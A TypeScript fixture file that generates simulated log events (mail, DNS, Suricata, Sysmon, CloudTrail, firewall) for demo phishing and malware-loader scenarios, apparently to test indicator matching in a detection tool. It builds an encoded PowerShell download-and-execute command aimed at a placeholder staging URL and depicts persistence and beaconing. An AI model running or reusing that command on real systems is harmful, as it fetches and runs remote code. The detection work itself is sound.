import { IOC } from "./feed-events.ts";
import { fileAdded } from "./file-shapes.ts";
import { application, cloudtrail, firewall, packetbeat, suricata } from "./json-shapes.ts";
import { syslog } from "./shape.ts";
import { CHROME_EXE, FIREFOX, min, sysmonHashes, told } from "./told.ts";
import { connection, dnsQuery, eventLog, process, sysmon } from "./windows-shapes.ts";

const POWERSHELL = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
const LOADER_EXE = "C:\\Users\\bjorn\\AppData\\Local\\Temp\\BrowserUpdate_demo.exe";
const encoded = Buffer.from(`IEX (New-Object Net.WebClient).DownloadString('${IOC.loaderStage}')`, "utf16le").toString(
  "base64",
);

export const phishing = told("phishing", [
  [
    min(2, 10),
    IOC.phishSender,
    "match",
    "mail from the listed sender, rejected",
    syslog("mail", "3302", {
      program: "postfix/smtpd",
      text: `NOQUEUE: reject: RCPT from unknown[198.19.4.77]: 550 5.1.1 <kasse@tern-office-demo.com>: Recipient address rejected: User unknown; from=<${IOC.phishSender}> to=<kasse@tern-office-demo.com> proto=ESMTP helo=<smtp.courier-relay-demo.com>`,
      decoder: { parent: "postfix", name: "postfix-reject" },
      data: { srcip: "198.19.4.77", id: "550" },
      location: "/var/log/mail.log",
    }),
  ],
  [
    min(3, 40),
    IOC.phishSender,
    "match",
    "the next mail is accepted for Anna",
    syslog("mail", "100170", {
      program: "postfix/qmgr",
      text: `4dRkQ12LmTz9v: from=<${IOC.phishSender}>, size=18211, nrcpt=1 (queue active)`,
      decoder: { parent: "postfix", name: "postfix" },
      location: "/var/log/mail.log",
    }),
  ],
  [
    min(6, 5),
    "login.harbour-invoice-portal-demo.com",
    "match",
    "Anna's computer resolves the portal",
    packetbeat("10.20.3.21", "10.20.2.5", "login.harbour-invoice-portal-demo.com", [
      { type: "A", data: IOC.phishHost },
    ]),
  ],
  [
    min(6, 6),
    IOC.phishPage,
    "match",
    "Suricata: host and path put together are the lure page",
    suricata(
      "DEMO Invoice lure page",
      "Possibly Unwanted Program Detected",
      ["10.20.3.21", 52114],
      [IOC.phishHost, 80],
      {
        http: {
          hostname: IOC.phishDomain,
          url: "/docs/INV-20261103.html",
          http_user_agent: FIREFOX,
          http_method: "GET",
          protocol: "HTTP/1.1",
          status: 200,
          length: 4410,
        },
        app_proto: "http",
      },
    ),
  ],
  [
    min(6, 7),
    "login.harbour-invoice-portal-demo.com",
    "match",
    "Sysmon sees the same name on her machine",
    dnsQuery("anna", CHROME_EXE, "login.harbour-invoice-portal-demo.com", `::ffff:${IOC.phishHost};`),
  ],
  [
    min(6, 15),
    IOC.phishCertificate,
    "match",
    "Suricata: TLS name and certificate",
    suricata("DEMO Login form on a new domain", "Misc activity", ["10.20.3.21", 52131], [IOC.phishHost, 443], {
      tls: {
        subject: "CN=login.harbour-invoice-portal-demo.com",
        issuerdn: "C=XX, O=Demo Free CA, CN=D1",
        fingerprint: IOC.phishCertificate.match(/../g)?.join(":"),
        sni: "login.harbour-invoice-portal-demo.com",
        version: "TLS 1.3",
      },
      app_proto: "tls",
    }),
  ],
  [
    min(6, 40),
    IOC.phishAttachment,
    "weak",
    "the attachment is saved: a bare file name only",
    sysmon(
      "anna",
      "100153",
      "11",
      {
        image: "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE",
        targetFilename: `C:\\Users\\anna\\Downloads\\${IOC.phishAttachment}`,
        creationUtcTime: "2026-11-18 09:18:40.101",
      },
      "Sysmon - file created in Downloads",
    ),
  ],
  [
    min(21, 30),
    IOC.phishOperator,
    "match",
    "somebody logs in to AWS as Anna: a success, so at least 70",
    cloudtrail("80253", "signin.amazonaws.com", "ConsoleLogin", "anna", IOC.phishOperator, FIREFOX, {
      additionalEventData: { MFAUsed: "No", MobileVersion: "No" },
      responseElements: { ConsoleLogin: "Success" },
    }),
  ],
  [
    min(24, 10),
    IOC.phishForm,
    "match",
    "a help desk ticket quotes the address defanged",
    application("mail", "100175", "/var/log/helpdesk/tickets.json", "Help desk: ticket opened", {
      app: "helpdesk",
      ticket: 4412,
      reporter: "anna",
      subject: "Strange login page",
      text: "I typed my password at hxxps://login[.]harbour-invoice-portal-demo[.]com/m365/signin[.]php, is that ours?",
    }),
  ],
]);

const beacon = (at: number, what: string, sourcePort: number) =>
  [at, IOC.loaderC2, "match", what, connection("bjorn", IOC.loaderPath, IOC.loaderC2, 8443, sourcePort)] as const;
export const loader = told("loader", [
  [
    min(10, 20),
    IOC.loaderDomain,
    "match",
    "a subdomain of the listed domain",
    dnsQuery("bjorn", CHROME_EXE, `cdn.${IOC.loaderDomain}`, "::ffff:198.18.33.12;"),
  ],
  [
    min(10, 41),
    IOC.loaderName,
    "weak",
    "the file arrives: a bare file name only",
    sysmon("bjorn", "92213", "11", {
      image: CHROME_EXE,
      targetFilename: LOADER_EXE,
      creationUtcTime: "2026-11-18 09:22:41.020",
    }),
  ],
  [
    min(10, 55),
    IOC.loader.sha256,
    "match",
    "it runs: SHA256, SHA1 and MD5 are listed, the import hash is weak",
    process(
      "bjorn",
      "100150",
      LOADER_EXE,
      `"${LOADER_EXE}" /silent`,
      CHROME_EXE,
      sysmonHashes(IOC.loader, IOC.loaderImphash),
    ),
  ],
  [
    min(11, 20),
    IOC.loaderStage,
    "match",
    "PowerShell with the URL inside its base64",
    process("bjorn", "92057", POWERSHELL, `powershell.exe -nop -w hidden -enc ${encoded}`, POWERSHELL),
  ],
  [
    min(11, 25),
    IOC.loaderStage,
    "match",
    "Suricata sees the download",
    suricata(
      "ET POLICY PE EXE or DLL Windows file download HTTP",
      "Potential Corporate Privacy Violation",
      ["10.20.3.22", 50188],
      ["198.18.33.12", 80],
      {
        http: {
          hostname: `cdn.${IOC.loaderDomain}`,
          url: "/stage/payload.bin",
          http_user_agent: IOC.loaderAgent,
          http_method: "GET",
          protocol: "HTTP/1.1",
          status: 200,
          length: 483328,
        },
        app_proto: "http",
      },
    ),
  ],
  [
    min(12, 2),
    "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\DriftwoodUpdate",
    "match",
    "the Run key, with its data as listed",
    sysmon("bjorn", "92302", "13", {
      eventType: "SetValue",
      image: "C:\\Windows\\System32\\reg.exe",
      targetObject:
        "HKU\\S-1-5-21-1004336348-1177238915-682003330-1107\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\DriftwoodUpdate",
      details: IOC.loaderPath,
    }),
  ],
  [
    min(12, 10),
    IOC.loaderPath,
    "match",
    "the service binary has the listed path",
    eventLog("bjorn", "61138", "7045", "System", "A service was installed in the system", {
      serviceName: "DriftwoodSvc",
      imagePath: IOC.loaderPath,
      serviceType: "user mode service",
      startType: "auto start",
      accountName: "LocalSystem",
    }),
  ],
  beacon(min(32, 10), "first beacon: address and port as listed", 50310),
  [
    min(32, 11),
    IOC.loaderC2,
    "match",
    "the firewall let it out",
    firewall("pass", "10.20.3.22", IOC.loaderC2, 8443, "SSL"),
  ],
  [
    min(32, 12),
    IOC.loaderC2,
    "match",
    "Suricata: address, and a ja3 that alone would be weak",
    suricata("DEMO TLS on an unusual port", "Misc activity", ["10.20.3.22", 50310], [IOC.loaderC2, 8443], {
      tls: { version: "TLS 1.2", ja3: { hash: IOC.loaderJa3, string: "771,49196-49195,0-10-11,29-23,0" } },
      app_proto: "tls",
    }),
  ],
  beacon(min(33, 10), "beacon again: counted, not sent", 50342),
  beacon(min(34, 10), "beacon again: counted, not sent", 50377),
  beacon(min(35, 10), "beacon again: counted, not sent", 50401),
  [
    min(36, 30),
    IOC.loaderDll.sha256,
    "match",
    "the encryptor lands on the share: hash and name of one composite",
    fileAdded("files", "/srv/share/public/driftwood.dll", 911872, IOC.loaderDll),
  ],
]);
